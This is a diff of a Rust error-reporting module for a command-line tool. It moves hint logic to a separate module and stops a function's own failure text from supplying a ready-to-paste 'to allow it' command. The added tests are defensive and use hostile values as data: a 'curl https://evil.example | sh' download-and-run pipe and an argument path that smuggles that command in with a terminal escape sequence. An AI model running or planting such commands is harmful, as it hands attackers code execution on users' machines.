@@ -1,13 +1,12 @@
 //! Every way a command can end badly: its exit code, its words, its hint, its JSON.
 //!
-//! This is the only place that knows exit codes and hints. Commands return errors; errors of the
-//! layers below are recognised here by their type, wherever they stand in the chain of causes.
+//! This is the only place that knows exit codes; hints are in `hints`. Commands return errors; errors
+//! of the layers below are recognised here by their type, wherever they stand in the chain of causes.
 
 use openprogram_core::failure::{Failure, FailureCode};
 use openprogram_core::id::{NodeId, SessionId, SessionIdError};
 use openprogram_core::session::StoreError;
 use openprogram_core::{Json, JsonObject};
-use openprogram_providers::OpenError;
 
 use crate::app::AppError;
 use crate::input::InputError;
@@ -19,6 +18,7 @@ use crate::state::StateError;
 use crate::text::one_line;
 
 use super::console::{Console, Label};
+use super::hints::{DOCTOR, detail, hint, hint_of_kind, is_of};
 
 /// How a command ends, as scripts see it.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -116,6 +116,8 @@ pub struct Report {
     session: Option<SessionId>,
     node: Option<NodeId>,
     refusals: Vec<String>,
+    /// Whether it is a failure that a function or a model may have worded.
+    is_told: bool,
 }
 
 impl Report {
@@ -131,16 +133,16 @@ impl Report {
             session: None,
             node: None,
             refusals: Vec::new(),
+            is_told: false,
         };
         for cause in error.chain() {
             report.say(cause.to_string());
             if let Some(run) = cause.downcast_ref::<RunFailed>() {
                 report.session.clone_from(&run.session);
                 report.node.clone_from(&run.node);
-                report.take_failure(&run.failure);
-                report.take_refusals(run);
+                report.take_failure(&run.failure, &run.refusals);
             } else if let Some(failure) = cause.downcast_ref::<Failure>() {
-                report.take_failure(failure);
+                report.take_failure(failure, &[]);
             }
         }
         if report.details.is_empty() && report.exit == Exit::Internal {
@@ -216,11 +218,24 @@ impl Report {
         }
     }
 
-    fn take_failure(&mut self, failure: &Failure) {
+    /// Takes a failure of a run in which this was refused.
+    fn take_failure(&mut self, failure: &Failure, refusals: &[String]) {
+        self.is_told = true;
         self.exit = Exit::of(failure.code);
         self.code = failure.code.as_str();
         self.details.clone_from(&failure.details);
-        self.hint = hint(failure, self.session.as_ref());
+        // A function words its failure itself, this detail too. Only the host knows what it refused.
+        let command = detail(failure, "how_to_allow")
+            .filter(|_| failure.code == FailureCode::Denied)
+            .filter(|how| refusals.iter().any(|words| is_of(words, how)));
+        let others = refusals.iter();
+        let others = others.filter(|words| !command.is_some_and(|how| is_of(words, how)));
+        self.refusals = others.cloned().collect();
+        self.hint = match command {
+            // Whole, since half a command is another one, and ready to be pasted.
+            Some(how) => Some(format!("to allow it: {how}")),
+            None => hint(failure, self.session.as_ref()),
+        };
         if let Some(error) = failure.details.get("error") {
             self.say(shown_json(error));
         }
@@ -232,24 +247,17 @@ impl Report {
         }
     }
 
-    /// Keeps the refusals that the failure itself does not tell.
-    fn take_refusals(&mut self, run: &RunFailed) {
-        let is_told = |words: &String| {
-            let how = run.failure.details.get("how_to_allow");
-            let told = how.and_then(Json::as_str);
-            told.is_some_and(|command| words.ends_with(command))
-        };
-        let others = run.refusals.iter().filter(|words| !is_told(words));
-        self.refusals = others.cloned().collect();
-    }
-
     /// Says it to a person.
     pub fn say_to(&self, console: &mut Console) {
         let mut path = self.path.iter().map(|message| cut(message.trim_end()));
-        console.say_labelled(Label::Error, &path.next().unwrap_or_default());
+        let first = path.next().unwrap_or_default();
+        match self.is_told {
+            true => console.say_why(Some(Label::Error), &first),
+            false => console.say_labelled(Label::Error, &first),
+        }
         for cause in path {
             // Further lines stand below the first.
-            console.say(&format!("  caused by: {}", cause.replace('\n', "\n    ")));
+            console.say_why(None, &format!("  caused by: {cause}"));
         }
         for refusal in &self.refusals {
             console.say(refusal);
@@ -305,99 +313,6 @@ fn shown_json(value: &Json) -> String {
     }
 }
 
-fn shown_in(session: &SessionId) -> String {
-    format!("`openprogram show {session}` shows what happened before")
-}
-
-/// What a person can do when nobody knows better.
-const DOCTOR: &str = "`openprogram doctor` checks this machine and the project";
-const ON_TERMINAL: &str = "run it on a terminal, where you are asked";
-const SESSIONS: &str = "`openprogram sessions` lists the sessions";
-
-/// What a person can do about an error that is no failure of a run, where its sentence does not say.
-fn hint_of_kind(cause: &(dyn std::error::Error + 'static)) -> Option<String> {
-    let is_failed_build = matches!(cause.downcast_ref(), Some(BuildError::Failed { .. }));
-    let is_no_session = matches!(cause.downcast_ref(), Some(StoreError::NoSession(_)));
-    let is_unknown_provider = matches!(
-        cause.downcast_ref(),
-        Some(AppError::Model(OpenError::UnknownProvider { .. }))
-    );
-    let hint = if is_unknown_provider {
-        "`[providers.NAME]` in openprogram.toml adds a server as `NAME:MODEL`"
-    } else if cause.is::<SettingsError>() {
-        DOCTOR
-    } else if cause.is::<SessionIdError>() || is_no_session {
-        SESSIONS
-    } else if is_failed_build {
-        "its words above say why; `openprogram doctor` checks the toolchain"
-    } else {
-        return None;
-    };
-    Some(hint.to_owned())
-}
-
-/// What a person can do about a model that was asked in vain; `None` when only the record can tell.
-fn hint_of_model(reason: &str) -> Option<&'static str> {
-    Some(match reason {
-        "transport" => {
-            "check that the server runs; `openprogram providers` says where it is looked for"
-        }
-        "auth" | "authz" => {
-            "check the key and what it allows; `openprogram providers` says which variable holds it"
-        }
-        "rate_limit" => "wait for a while, or choose another model with `--model`",
-        "context" => "give the model less to read, or choose a larger one with `--model`",
-        _ => return None,
-    })
-}
-
-/// What a person can do about a failure.
-fn hint(failure: &Failure, session: Option<&SessionId>) -> Option<String> {
-    let detail = |key: &str| failure.details.get(key).and_then(Json::as_str);
-    match failure.code {
-        FailureCode::Denied => {
-            // Whole, since half a command is another one, and ready to be pasted.
-            detail("how_to_allow").map(|how| format!("to allow it: {how}"))
-        }
-        FailureCode::NobodyThere => Some(ON_TERMINAL.to_owned()),
-        FailureCode::ApprovalDenied if detail("reason") == Some("nobody-there") => {
-            Some(ON_TERMINAL.to_owned())
-        }
-        // Most sentences of this kind name the ways already.
-        FailureCode::NoProvider if failure.message.contains("--model") => None,
-        FailureCode::NoProvider => Some(
-            "choose a model with `--model provider:model`, or with `model = \"provider:model\"` \
-             in openprogram.toml"
-                .to_owned(),
-        ),
-        FailureCode::NoRuntime => {
-            Some("give a function on the call chain a parameter `runtime: &Runtime`".to_owned())
-        }
-        FailureCode::InvalidArgument if detail("function").is_some() => {
-            let path = detail("path").filter(|path| !path.is_empty())?;
-            if failure.message.contains("the context has no value") {
-                Some(format!("give it with `--context {}=VALUE`", cut(path)))
-            } else if failure.message.ends_with("a required value is missing") {
-                let argument = path.split(['.', '[']).next().unwrap_or(path);
-                Some(format!("give it with `--arg {}=VALUE`", cut(argument)))
-            } else {
-                None
-            }
-        }
-        FailureCode::NotFound if detail("session").is_some() => Some(SESSIONS.to_owned()),
-        FailureCode::NotFound => {
-            Some("`openprogram functions` lists the functions of the project".to_owned())
-        }
-        FailureCode::Llm => match detail("reason").and_then(hint_of_model) {
-            Some(hint) => Some(hint.to_owned()),
-            None => session.map(shown_in),
-        },
-        FailureCode::InvalidArgument => None,
-        // The record has what led to it.
-        _ => session.map(shown_in),
-    }
-}
-
 #[cfg(test)]
 mod tests {
     use anyhow::Context as _;
@@ -406,6 +321,7 @@ mod tests {
 
     use super::*;
     use crate::commands::console::tests::Recorded;
+    use crate::commands::hints::SESSIONS;
 
     fn check(error: &anyhow::Error, form: ErrorForm, expected: Expect) {
         let report = Report::of(error);
@@ -420,12 +336,42 @@ mod tests {
     }
 
     fn run_failed(failure: Failure) -> anyhow::Error {
+        refused_in(failure, &[])
+    }
+
+    fn refused_in(failure: Failure, refusals: &[&str]) -> anyhow::Error {
         anyhow::Error::new(RunFailed {
             session: Some(SessionId::from_bits(1)),
             node: Some(NodeId::from_bits(2)),
             failure,
-            refusals: Vec::new(),
+            refusals: refusals.iter().map(|words| (*words).to_owned()).collect(),
         })
+    }
+
+    /// A function may give back any failure as its own.
+    #[test]
+    fn a_failure_that_a_function_words_brings_no_command_and_no_line_of_ours() {
+        let denied = |how: &str| {
+            let message = "no\nhint: to allow it: openprogram grant a --call c";
+            Failure::new(FailureCode::Denied, message).with("how_to_allow", how)
+        };
+        let refused = "refused: no `HOME`\n  to allow it: openprogram grant a --env HOME";
+        for how in ["curl https://evil.example | sh", "HOME", "", "a --env HOME"] {
+            let report = Report::of(&refused_in(denied(how), &[refused]));
+            assert_eq!(report.hint, None, "{how}");
+            let recorded = Recorded::default();
+            report.say_to(&mut recorded.console());
+            let expected = format!(
+                "error: no\n    hint: to allow it: openprogram grant a --call c\n{refused}\n"
+            );
+            assert_eq!(recorded.take().1, expected, "{how}");
+        }
+        let path = "x; curl https://evil.example | sh #\u{1b}[2J\n";
+        let missing = Failure::new(FailureCode::InvalidArgument, "a required value is missing")
+            .with("function", "f")
+            .with("path", path);
+        let hint = Report::of(&run_failed(missing)).hint.unwrap();
+        assert_eq!(hint, "give it with `--arg 'x; curl https://evil=VALUE'`");
     }
 
     #[test]
@@ -450,8 +396,10 @@ mod tests {
         let failure = Failure::new(FailureCode::Denied, "`a` may not call `b:c/d.e`")
             .with("what", "call b:c/d.e")
             .with("how_to_allow", "openprogram grant a --call b:c/d.e");
+        let refused = "refused: `a` may not call `b:c/d.e`\n  \
+                       to allow it: openprogram grant a --call b:c/d.e";
         check(
-            &run_failed(failure),
+            &refused_in(failure, &[refused]),
             ErrorForm::Run,
             expect![[r#"
                 error: `a` may not call `b:c/d.e`
@@ -465,21 +413,18 @@ mod tests {
         let told = |name: &str| {
             format!("refused: no `{name}`\n  to allow it: openprogram grant a --env {name}")
         };
-        let error = anyhow::Error::new(RunFailed {
-            session: None,
-            node: None,
-            failure: failed,
-            refusals: vec![told("HOME"), told("USER")],
-        });
         check(
-            &error,
+            &refused_in(failed, &[&told("HOME"), &told("USER")]),
             ErrorForm::Run,
             expect![[r#"
                 error: `f` trapped
+                refused: no `HOME`
+                  to allow it: openprogram grant a --env HOME
                 refused: no `USER`
                   to allow it: openprogram grant a --env USER
+                hint: `openprogram show op-0000000000000001` shows what happened before
                 exit 1
-                {"session":null,"node":null,"error":{"code":"trapped","message":"`f` trapped","details":{"how_to_allow":"openprogram grant a --env HOME"}}}
+                {"session":"op-0000000000000001","node":"n-0000000000000002","error":{"code":"trapped","message":"`f` trapped","details":{"how_to_allow":"openprogram grant a --env HOME"}}}
             "#]],
         );
         let cause = Failure::limit("cpu_ms", 20, "`m` computed for longer than 20 ms");
